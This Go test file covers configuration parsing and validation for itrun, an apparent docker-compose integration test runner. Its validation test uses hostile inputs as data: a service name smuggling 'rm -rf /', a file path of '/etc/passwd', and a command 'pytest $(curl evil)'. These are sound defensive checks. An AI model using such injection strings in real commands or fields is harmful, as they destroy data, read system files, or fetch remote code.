package cli

import (
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/artefactual-labs/itrun/test"
)

func TestNewConfigDefaults(t *testing.T) {
	t.Parallel()

	c := NewConfig(test.NewTestLogger())

	assert.Equal(t, "archivematica-storage-service", c.Project.Service)
	assert.Equal(t, "docker-compose.yml", c.Project.File)
	assert.Equal(t, 0, c.Project.MaxRetries)
	assert.Equal(t, 1000, c.Project.RetryDelayMs)
	assert.True(t, c.Project.RetryExponential)
	assert.Equal(t, 60000, c.Project.RetryMaxDelayMs)
}

func TestBuildFromStringProjectSection(t *testing.T) {
	t.Parallel()

	content := `
[project]
dir = /srv/integration
file = docker-compose.test.yml
service = mysql
command = pytest -v
down-volumes = true
remove-orphans = true
max-runtime = 45m
max-retries = 2
`
	c, err := BuildFromString(content, test.NewTestLogger())
	require.NoError(t, err)

	assert.Equal(t, "/srv/integration", c.Project.Dir)
	assert.Equal(t, "docker-compose.test.yml", c.Project.File)
	assert.Equal(t, "mysql", c.Project.Service)
	assert.Equal(t, "pytest -v", c.Project.Command)
	assert.True(t, c.Project.DownVolumes)
	assert.True(t, c.Project.RemoveOrphans)
	assert.Equal(t, 45*time.Minute, c.Project.MaxRuntime)
	assert.Equal(t, 2, c.Project.MaxRetries)

	// values not present in the file keep their defaults
	assert.Equal(t, 1000, c.Project.RetryDelayMs)
}

func TestBuildFromStringGlobalSection(t *testing.T) {
	t.Parallel()

	content := `
[global]
log-level = debug
save-folder = /var/log/itrun
smtp-host = mail.example.org
smtp-port = 587
email-to = qa@example.org
email-from = itrun@example.org
`
	c, err := BuildFromString(content, test.NewTestLogger())
	require.NoError(t, err)

	assert.Equal(t, "debug", c.Global.LogLevel)
	assert.Equal(t, "/var/log/itrun", c.Global.SaveFolder)
	assert.Equal(t, "mail.example.org", c.Global.SMTPHost)
	assert.Equal(t, 587, c.Global.SMTPPort)

	ms := c.Middlewares()
	assert.Len(t, ms, 2)
}

func TestBuildFromStringNoMiddlewares(t *testing.T) {
	t.Parallel()

	c, err := BuildFromString("", test.NewTestLogger())
	require.NoError(t, err)
	assert.Empty(t, c.Middlewares())
}

func TestBuildFromStringCaseInsensitiveKeys(t *testing.T) {
	t.Parallel()

	content := `
[project]
Service = minio
Down-Volumes = true
`
	c, err := BuildFromString(content, test.NewTestLogger())
	require.NoError(t, err)

	assert.Equal(t, "minio", c.Project.Service)
	assert.True(t, c.Project.DownVolumes)
}

func TestBuildFromStringSectionlessKeys(t *testing.T) {
	t.Parallel()

	// keys before any section header decode into the global settings
	logger := test.NewTestLogger()
	c, err := BuildFromString("log-level = debug\nsave-folder = /var/log/itrun\n", logger)
	require.NoError(t, err)

	assert.Equal(t, "debug", c.Global.LogLevel)
	assert.Equal(t, "/var/log/itrun", c.Global.SaveFolder)
	assert.False(t, logger.HasMessage("unknown config section"))
}

func TestBuildFromStringUnknownSectionWarns(t *testing.T) {
	t.Parallel()

	logger := test.NewTestLogger()
	_, err := BuildFromString("[job-run \"foo\"]\nimage = alpine\n", logger)
	require.NoError(t, err)
	assert.True(t, logger.HasMessage("unknown config section"))
}

func TestBuildFromFileMissing(t *testing.T) {
	t.Parallel()

	_, err := BuildFromFile("/nonexistent/itrun.ini", test.NewTestLogger())
	assert.Error(t, err)
}

func TestConfigValidate(t *testing.T) {
	t.Parallel()

	c := NewConfig(test.NewTestLogger())
	assert.NoError(t, c.Validate())

	c.Project.Service = "svc;rm -rf /"
	assert.Error(t, c.Validate())

	c = NewConfig(test.NewTestLogger())
	c.Project.Service = ""
	assert.Error(t, c.Validate())

	c = NewConfig(test.NewTestLogger())
	c.Project.File = "/etc/passwd"
	assert.Error(t, c.Validate())

	c = NewConfig(test.NewTestLogger())
	c.Project.Command = "pytest $(curl evil)"
	assert.NoError(t, c.Validate()) // argv content is passed verbatim, not shell-expanded

	c = NewConfig(test.NewTestLogger())
	c.Project.RetryDelayMs = 0
	assert.Error(t, c.Validate())
}

func TestConfigComposeProject(t *testing.T) {
	t.Parallel()

	c := NewConfig(test.NewTestLogger())
	c.Project.Dir = "/srv/integration"
	c.Project.Command = "pytest"
	c.Project.DownVolumes = true

	p := c.ComposeProject()
	assert.Equal(t, "/srv/integration", p.Dir)
	assert.Equal(t, "docker-compose.yml", p.File)
	assert.Equal(t, "archivematica-storage-service", p.Service)
	assert.Equal(t, "pytest", p.Command)
	assert.True(t, p.DownVolumes)
}

func TestConfigRetryConfig(t *testing.T) {
	t.Parallel()

	c := NewConfig(test.NewTestLogger())
	c.Project.MaxRetries = 3
	c.Project.RetryDelayMs = 250

	r := c.RetryConfig()
	assert.Equal(t, 3, r.MaxRetries)
	assert.Equal(t, 250, r.RetryDelayMs)
	assert.True(t, r.RetryExponential)
	assert.Equal(t, 60000, r.RetryMaxDelayMs)
}
